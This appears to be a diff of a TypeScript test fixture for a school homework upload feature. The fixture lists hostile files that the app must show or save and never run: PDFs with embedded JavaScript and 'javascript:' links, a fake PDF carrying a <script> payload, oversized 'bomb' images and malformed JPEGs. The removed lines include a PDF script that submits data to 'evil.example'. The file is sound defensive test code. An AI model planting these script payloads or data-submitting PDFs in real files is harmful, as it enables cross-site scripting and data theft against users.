@@ -1,48 +1,13 @@
-import { pdf } from '../pdf.ts'
-import { hugeJpeg, jpeg } from '../photo.ts'
-import { blankPng } from '../png.ts'
+import type { Bytes, SchoolFiles } from '../schoolFiles.ts'
 
 /** A file that must be shown as what it is, or offered to save, and never run (cases 14, 15). */
-export type HostileFile = { trick: string; name: string; bytes: () => Promise<Uint8Array<ArrayBuffer>> }
+export type HostileFile = { trick: string; name: string; bytes: (files: SchoolFiles) => Promise<Bytes> }
 
 const text = (content: string) => async () => new TextEncoder().encode(content)
-const made = (make: () => Uint8Array<ArrayBuffer>) => async () => make()
+/** One that is kept, of this name. */
+const kept = (name: string) => (files: SchoolFiles) => files(`faults/files/${name}`)
 const latin1 = (content: string) => async () => Uint8Array.from(content, character => character.charCodeAt(0))
 const run = 'parent.window.hacked=true'
-
-/** An `L` of dark blocks in a grey field: upright once its orientation is respected. */
-const letter = (orientation: number) => {
-  const columns = orientation > 4 ? 8 : 6
-  const rows = orientation > 4 ? 6 : 8
-  const block = (column: number, row: number) => {
-    const [x, y] = uprightOf(orientation, column, row)
-    const isInk = (x === 1 && y > 0 && y < 7) || (y === 6 && x > 0 && x < 5)
-    return isInk ? ([40, 128, 128] as const) : ([220, 128, 128] as const)
-  }
-  return jpeg({ columns, rows, orientation, block })
-}
-
-/** Where a stored block stands in the upright picture of 6 × 8 blocks (EXIF 2.3, tag 0x0112). */
-function uprightOf(orientation: number, column: number, row: number): [x: number, y: number] {
-  switch (orientation) {
-    case 2:
-      return [5 - column, row]
-    case 3:
-      return [5 - column, 7 - row]
-    case 4:
-      return [column, 7 - row]
-    case 5:
-      return [row, column]
-    case 6:
-      return [5 - row, column]
-    case 7:
-      return [5 - row, 7 - column]
-    case 8:
-      return [row, 7 - column]
-    default:
-      return [column, row]
-  }
-}
 
 /** In the seed school the nth pupil of homework 113 handed in the nth of them; the trick's name is their comment. */
 export const hostileFiles: readonly HostileFile[] = [
@@ -101,24 +66,18 @@ export const hostileFiles: readonly HostileFile[] = [
   {
     trick: 'PDF with JavaScript',
     name: 'active.pdf',
-    bytes: made(() =>
-      pdf([['This page runs.']], {
-        script: 'app.alert("hacked"); this.submitForm("https://evil.example/");',
-      }),
-    ),
+    bytes: kept('active.pdf'),
   },
   {
     trick: 'PDF with a link',
     name: 'link.pdf',
-    bytes: made(() =>
-      pdf([['A link to javascript: covers this page.']], { link: 'javascript:window.hacked=true' }),
-    ),
+    bytes: kept('link.pdf'),
   },
   { trick: 'PDF that is none', name: 'none.pdf', bytes: text(`%PDF-1.7\n<script>${run}</script>\n`) },
   {
     trick: 'PDF of 150 pages',
     name: 'many.pdf',
-    bytes: made(() => pdf(Array.from({ length: 150 }, (_, page) => [`Page ${page + 1}`]))),
+    bytes: kept('many.pdf'),
   },
   {
     trick: 'JPEG that is none',
@@ -128,14 +87,15 @@ export const hostileFiles: readonly HostileFile[] = [
   {
     trick: 'JPEG that breaks off',
     name: 'half.jpg',
-    bytes: made(() => jpeg({ columns: 20, rows: 20, block: () => [128, 100, 160] }).slice(0, -220)),
+    bytes: kept('half.jpg'),
   },
-  { trick: 'JPEG of 48 megapixels', name: 'huge.jpg', bytes: made(() => hugeJpeg(1000, 750)) },
-  { trick: 'PNG of 36 megapixels', name: 'bomb.png', bytes: () => blankPng(6000, 6000) },
+  { trick: 'JPEG of 48 megapixels', name: 'huge.jpg', bytes: kept('huge.jpg') },
+  { trick: 'PNG of 36 megapixels', name: 'bomb.png', bytes: kept('bomb.png') },
+  // An `L` in a grey field, upright once its orientation is respected (EXIF 2.3, tag 0x0112).
   ...[1, 2, 3, 4, 5, 6, 7, 8].map(orientation => ({
     trick: `JPEG of orientation ${orientation}`,
     name: `orientation-${orientation}.jpg`,
-    bytes: made(() => letter(orientation)),
+    bytes: kept(`orientation-${orientation}.jpg`),
   })),
   { trick: 'text with NUL', name: 'nul.txt', bytes: text('before\u0000after\n') },
   {
